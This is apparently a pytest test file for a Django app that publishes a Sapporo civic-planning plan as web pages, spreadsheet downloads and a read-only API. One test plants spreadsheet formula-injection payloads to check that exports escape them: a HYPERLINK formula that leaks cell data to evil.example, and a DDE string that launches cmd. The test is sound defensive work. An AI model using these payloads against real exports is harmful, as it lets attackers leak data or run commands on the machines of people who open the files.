"""The public pages and the read-only API, through the Django test client."""

import csv
import io
import json

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from machiplan.cli.bootstrap import ensure_default_plan

pytestmark = pytest.mark.django_db
PLAN = "/plans/sapporo-machizukuri-2/"


@pytest.fixture(autouse=True)
def plan():
    cache.clear()
    ensure_default_plan()


def test_plan_page_summarises_every_goal_and_indicator(client, sapporo):
    response = client.get(PLAN)
    assert response.status_code == 200
    html = response.content.decode()
    assert '<html lang="ja">' in html and "第2期 市民まちづくり活動促進基本計画" in html
    for goal in sapporo.goals:
        assert f'href="{PLAN}goals/{goal.number}/?lang=ja"' in html
    for ind in sapporo.indicators:
        assert f'href="{PLAN}indicators/{ind.code}/?lang=ja"' in html
    assert '<td class="num">6</td>' in html  # 達成 6 in the whole plan


def test_goal_page_lays_out_the_sheet(client):
    html = client.get(f"{PLAN}goals/3/").content.decode()
    assert "基本目標3『交流』" in html and "100件 (H26-30計)" in html and "H25実績" in html


def test_indicator_page_has_evaluation_chart_table_and_downloads(client):
    html = client.get(f"{PLAN}indicators/2a/").content.decode()
    assert "市民活動サポートセンター登録団体数" in html
    assert 'class="badge s-achieved"' in html and "年度末見込み約2,727団体" in html
    assert 'role="img"' in html and '<desc id="chart-2a-desc">' in html
    assert "2,684団体 (H29.8.31時点)" in html
    for fmt in ("csv", "json", "xlsx"):
        assert f'href="download.{fmt}"' in html


def test_english(client):
    html = client.get(f"{PLAN}indicators/2b/?lang=en").content.decode()
    assert '<html lang="en">' in html and "Certified NPO corporations" in html and "Behind" in html


def test_downloads(client):
    response = client.get(f"{PLAN}indicators/2e/download.csv")
    assert response["Content-Disposition"] == 'attachment; filename="sapporo-machizukuri-2-2e.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff全国地方公共団体コード,ID,地方公共団体名")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert (
        len(rows) == 5 and rows[1]["値"] == "15" and rows[1]["年度_和暦"] == "平成26年度"
    )  # observations.csv's columns
    data = json.loads(client.get(f"{PLAN}indicators/2e/download.json").content)
    assert data["evaluation"]["status"] == "on_track" and len(data["observations"]) == 5
    book = load_workbook(io.BytesIO(client.get(f"{PLAN}indicators/2e/download.xlsx").content))
    assert book.active["C2"].value == 11


def test_downloads_never_carry_a_formula(client, sapporo):
    """Text from a loaded plan that a spreadsheet would run stays text in the CSV and the XLSX."""
    from dataclasses import replace

    from machiplan.plans.services import plan_load

    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    ind = next(i for i in sapporo.indicators if i.code == "2e")
    hostile = replace(
        ind,
        name="@SUM(A1)",
        observations=tuple(
            replace(o, source_text=formula, note="+cmd|' /C calc'!A0") for o in ind.observations
        ),
        targets=tuple(replace(t, source_text=formula) for t in ind.targets),
    )
    plan_load(
        plan=replace(sapporo, indicators=tuple(hostile if i is ind else i for i in sapporo.indicators)),
        replace=True,
    )
    cache.clear()
    rows = list(
        csv.reader(io.StringIO(client.get(f"{PLAN}indicators/2e/download.csv").content.decode("utf-8-sig")))
    )
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert {"'" + formula, "'@SUM(A1)", "'+cmd|' /C calc'!A0"} <= set(cells)
    book = load_workbook(io.BytesIO(client.get(f"{PLAN}indicators/2e/download.xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.value == formula] and book.active["C2"].value == 11


def test_unknown_things_are_404_without_details(client):
    for url in (
        "/plans/nope/",
        f"{PLAN}indicators/zz/",
        f"{PLAN}goals/9/",
        f"{PLAN}indicators/2a/download.exe",
    ):
        response = client.get(url)
        assert response.status_code == 404, url
        assert b"Traceback" not in response.content and b"settings" not in response.content


def test_security_headers(client):
    response = client.get(PLAN)
    assert response["X-Frame-Options"] == "DENY"
    assert "default-src 'self'" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_api_lists_plans_and_serves_the_contract(client, sapporo):
    plans = client.get("/api/plans/").json()["plans"]
    assert [p["code"] for p in plans] == ["sapporo-machizukuri-2"]
    assert plans[0]["url"] == "http://testserver/api/plans/sapporo-machizukuri-2/"
    doc = client.get("/api/plans/sapporo-machizukuri-2/").json()
    assert doc["schema"] == "machiplan/plan@1" and len(doc["indicators"]) == 15
    assert doc["status_counts"]["achieved"] == 6
    assert client.get("/api/plans/nope/").status_code == 404
    assert client.post("/api/plans/").status_code == 405  # read-only


def test_openapi_describes_every_api_path(client):
    spec = client.get("/api/openapi.json").json()
    assert spec["openapi"].startswith("3.")
    figure = "/api/plans/{code}/indicators/{indicator}/observations/{fy}/"
    assert set(spec["paths"]) == {"/api/plans/", "/api/plans/{code}/", figure} | {
        f"{figure}{step}/" for step in ("submit", "approve", "return")
    }
    assert spec["paths"][figure]["post"]["security"] == [{"token": []}]


def test_pages_follow_the_data(client, sapporo):
    import dataclasses

    from machiplan.plans.services import plan_load

    assert "達成" in client.get(f"{PLAN}indicators/4b/").content.decode()
    changed = dataclasses.replace(sapporo, title="第2期 改訂版")
    plan_load(plan=changed, replace=True)
    cache.delete("version:sapporo-machizukuri-2")  # what a second's wait does
    assert "第2期 改訂版" in client.get(PLAN).content.decode()  # the cache key follows the plan's version
